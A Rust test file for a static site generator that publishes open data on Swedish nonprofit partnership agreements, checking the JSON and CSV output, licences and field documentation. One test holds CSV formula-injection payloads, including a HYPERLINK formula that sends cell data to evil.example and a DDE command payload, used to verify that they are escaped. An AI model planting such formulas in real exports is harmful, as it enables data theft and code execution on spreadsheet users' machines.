//! The data files a program reads: lists are arrays, unknown is `null`, organisations carry
//! their `SE-ON-` ids, each agreement has its own JSON, the licence is the one `site.yaml`
//! names, CSV cells cannot run as spreadsheet formulas, and `docs/data.md` describes every
//! field the files have.

mod common;
use common::{copy_dir, fixtures, minimal_site};

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use chrono::NaiveDate;
use iopsite::BuildOptions;
use serde_json::Value;

fn build(site: &Path) -> tempfile::TempDir {
    let out = tempfile::tempdir().unwrap();
    let options = BuildOptions {
        as_of: NaiveDate::from_ymd_opt(2026, 11, 29),
        ..Default::default()
    };
    iopsite::build(site, Some(&out.path().join("site")), &options)
        .unwrap_or_else(|e| panic!("{e}: {e:?}"));
    out
}

fn read(out: &Path, path: &str) -> String {
    fs::read_to_string(out.join("site").join(path)).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn json(out: &Path, path: &str) -> Value {
    serde_json::from_str(&read(out, path)).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn example() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    copy_dir(&root.join("content"), &dir.path().join("content"));
    dir
}

/// The CSV at `path` as rows of (header, cell).
fn csv_rows(out: &Path, path: &str) -> Vec<Vec<(String, String)>> {
    let text = read(out, path);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            headers
                .iter()
                .zip(r.iter())
                .map(|(h, v)| (h.to_string(), v.to_string()))
                .collect()
        })
        .collect()
}

#[test]
fn lists_are_arrays_unknown_is_null_and_organisations_have_se_on_ids() {
    let site = example();
    let out = build(site.path());
    let agreements = json(out.path(), "data/agreements.json");
    let agreements = agreements.as_array().unwrap();
    assert_eq!(agreements.len(), 4);
    for a in agreements {
        let id = a["id"].as_str().unwrap();
        assert!(a["diary_numbers"].is_array(), "{id}");
        assert!(
            a["goals"].as_array().unwrap().iter().all(Value::is_u64),
            "{id}"
        );
        assert!(
            a["outcomes"].is_array() && a["decisions"].is_array(),
            "{id}"
        );
        assert!(!a["summary"].as_str().unwrap().is_empty(), "{id}");
        for p in a["parties"].as_array().unwrap() {
            match p["org_number"].as_str() {
                Some(n) => assert_eq!(
                    p["org_id"].as_str().unwrap(),
                    format!("SE-ON-{}", n.replace('-', "")),
                    "{id}"
                ),
                None => assert!(p["org_id"].is_null(), "{id}"),
            }
        }
        // A total is a number only when every amount in it is known.
        if a["has_unpublished_amounts"] == true || a["has_unknown_amounts"] == true {
            assert!(a["public_total"].is_null(), "{id}: {a}");
        }
    }
    // Kalmar Stadsmission's amounts are unpublished: no total, and no zero either.
    let mission = agreements
        .iter()
        .find(|a| a["id"] == "kalmar-stadsmission")
        .unwrap();
    assert!(mission["public_total"].is_null(), "{mission}");
    assert_ne!(mission["public_total_at_least"], 0, "{mission}");
    // No signature in the example is dated: `signed` says unknown, not a date.
    assert!(agreements.iter().all(|a| a["signed"].is_null()));
}

#[test]
fn every_agreement_has_its_own_json_with_the_same_record_its_lines_and_licence() {
    let site = example();
    let out = build(site.path());
    let list = json(out.path(), "data/agreements.json");
    let funding = json(out.path(), "data/funding.json");
    for record in list.as_array().unwrap() {
        let id = record["id"].as_str().unwrap();
        let own = json(out.path(), &format!("agreements/{id}.json"));
        for (field, value) in record.as_object().unwrap() {
            assert_eq!(&own[field], value, "{id}: {field}");
        }
        assert!(
            record["data_url"]
                .as_str()
                .unwrap()
                .ends_with(&format!("agreements/{id}.json"))
        );
        let lines: Vec<&Value> = funding
            .as_array()
            .unwrap()
            .iter()
            .filter(|l| l["agreement"] == id)
            .collect();
        let own_lines: Vec<&Value> = own["funding"].as_array().unwrap().iter().collect();
        assert_eq!(own_lines, lines, "{id}: funding lines");
        assert_eq!(own["license"], "CC0-1.0");
        assert_eq!(
            own["license_url"],
            "https://creativecommons.org/publicdomain/zero/1.0/"
        );
        // The modified date is the latest date the content gives for it, never the build's.
        let mut dates: Vec<String> = Vec::new();
        for r in own["reports"].as_array().unwrap() {
            dates.extend(r["received_on"].as_str().map(first_day));
        }
        for d in own["decisions"].as_array().unwrap() {
            dates.push(first_day(d["date"].as_str().unwrap()));
        }
        for s in own["sources"].as_array().unwrap() {
            dates.extend(s["date"].as_str().map(first_day));
        }
        let latest = dates.into_iter().max();
        assert_eq!(
            own["date_modified"].as_str().map(String::from),
            latest,
            "{id}"
        );
    }
}

/// `2024`, `2024-06` or `2024-06-20` as the first day it can be.
fn first_day(when: &str) -> String {
    match when.len() {
        4 => format!("{when}-01-01"),
        7 => format!("{when}-01"),
        _ => when.to_string(),
    }
}

#[test]
fn the_licence_is_the_one_site_yaml_names() {
    let site = minimal_site();
    let yaml = site.path().join("content/site.yaml");
    let text = fs::read_to_string(&yaml).unwrap();
    fs::write(&yaml, format!("{text}license: CC-BY-4.0\n")).unwrap();
    let out = build(site.path());
    let own = json(out.path(), "agreements/base.json");
    assert_eq!(own["license"], "CC-BY-4.0");
    assert_eq!(
        own["license_url"],
        "https://creativecommons.org/licenses/by/4.0/"
    );
}

/// A party, a unit and a note written to attack whoever opens the CSV in a spreadsheet.
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")"#;
const PLUS: &str = "+SUM(1+1)";
const AT: &str = "@cmd|' /C calc'!A0";
const MINUS: &str = "-2+3";

#[test]
fn csv_cells_cannot_run_as_formulas_and_json_keeps_the_exact_text() {
    let site = minimal_site();
    let path = site.path().join("content/agreements/base.yaml");
    let yaml = fs::read_to_string(&path)
        .unwrap()
        .replace(
            "name: Testföreningen",
            &format!("name: '{}'", HYPERLINK.replace('\'', "''")),
        )
        .replace(
            "    funder: Testkommunen\n    amount: 100000",
            &format!(
                "    funder: Testkommunen\n    unit: '{PLUS}'\n    amount: 100000\n    note: '{}'",
                AT.replace('\'', "''")
            ),
        )
        .replace(
            "short_title: Mötesplats Test",
            &format!("short_title: '{MINUS}'"),
        );
    fs::write(&path, yaml).unwrap();
    let out = build(site.path());
    let agreements = csv_rows(out.path(), "data/agreements.csv");
    let cell = |rows: &[Vec<(String, String)>], field: &str| -> String {
        rows[0]
            .iter()
            .find(|(h, _)| h == field)
            .map(|(_, v)| v.clone())
            .unwrap_or_else(|| panic!("no field {field}"))
    };
    assert_eq!(
        cell(&agreements, "nonprofit_parties"),
        format!("'{HYPERLINK}")
    );
    assert_eq!(cell(&agreements, "short_title"), format!("'{MINUS}"));
    let funding = csv_rows(out.path(), "data/funding.csv");
    assert_eq!(cell(&funding, "unit"), format!("'{PLUS}"));
    assert_eq!(cell(&funding, "note"), format!("'{AT}"));
    assert_eq!(cell(&funding, "agreement_name"), format!("'{MINUS}"));
    // No cell of any CSV file starts a formula.
    for file in ["data/agreements.csv", "data/funding.csv"] {
        for row in csv_rows(out.path(), file) {
            for (field, value) in row {
                assert!(
                    !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{file}: {field} = {value}"
                );
            }
        }
    }
    // JSON is for programs: the text exactly as written.
    let json_list = json(out.path(), "data/agreements.json");
    let parties = &json_list[0]["parties"];
    assert_eq!(parties[1]["name"], HYPERLINK);
    let lines = json(out.path(), "data/funding.json");
    assert_eq!(lines[0]["unit"], PLUS);
    assert_eq!(lines[0]["note"], AT);
}

/// The field names of every record in the data files: the keys of the JSON objects (with
/// the objects inside them, as `parties[].name`), and the headers of the CSV files.
fn fields(out: &Path) -> BTreeSet<String> {
    fn walk(value: &Value, prefix: &str, into: &mut BTreeSet<String>) {
        match value {
            Value::Object(map) => {
                for (k, v) in map {
                    let name = if prefix.is_empty() {
                        k.clone()
                    } else {
                        format!("{prefix}.{k}")
                    };
                    into.insert(name.clone());
                    walk(v, &name, into);
                }
            }
            Value::Array(items) => {
                for item in items {
                    walk(item, &format!("{prefix}[]"), into);
                }
            }
            _ => {}
        }
    }
    let mut names = BTreeSet::new();
    for file in ["data/agreements.json", "data/funding.json"] {
        for record in json(out, file).as_array().unwrap() {
            walk(record, "", &mut names);
        }
    }
    for entry in fs::read_dir(out.join("site/agreements")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "json") {
            let value: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
            walk(&value, "", &mut names);
        }
    }
    for file in ["data/agreements.csv", "data/funding.csv"] {
        let text = read(out, file);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        names.extend(reader.headers().unwrap().iter().map(String::from));
    }
    names
}

#[test]
fn the_data_dictionary_describes_every_field() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let docs = fs::read_to_string(root.join("docs/data.md")).unwrap();
    let mut names = BTreeSet::new();
    let copy = example();
    for site in [copy.path().to_path_buf(), fixtures().join("truthful")] {
        let out = build(&site);
        names.extend(fields(out.path()));
    }
    let missing: Vec<String> = names
        .into_iter()
        .map(|n| n.rsplit(['.', ']']).next().unwrap_or(&n).to_string())
        .collect::<BTreeSet<_>>()
        .into_iter()
        .filter(|n| !docs.contains(&format!("`{n}`")))
        .collect();
    assert!(
        missing.is_empty(),
        "docs/data.md does not describe: {missing:?}"
    );
}

#[test]
fn the_open_data_page_lists_every_site_wide_file_and_the_licence() {
    let site = example();
    let out = build(site.path());
    let page = read(out.path(), "open-data.html");
    let listed: BTreeSet<String> = page
        .split("<li class=\"data-file\"><a href=\"")
        .skip(1)
        .filter_map(|rest| rest.split('"').next())
        .map(String::from)
        .collect();
    let mut files: BTreeSet<String> = fs::read_dir(out.path().join("site/data"))
        .unwrap()
        .map(|e| e.unwrap())
        .filter(|e| e.file_type().unwrap().is_file())
        .map(|e| format!("data/{}", e.file_name().to_string_lossy()))
        .collect();
    files.insert("feed.xml".into());
    assert_eq!(listed, files);
    assert!(
        page.contains(
            "href=\"https://creativecommons.org/publicdomain/zero/1.0/\" rel=\"license\""
        ),
        "{page}"
    );
    // Every page's footer leads to it.
    assert!(read(out.path(), "agreements.html").contains("href=\"open-data.html\""));
}
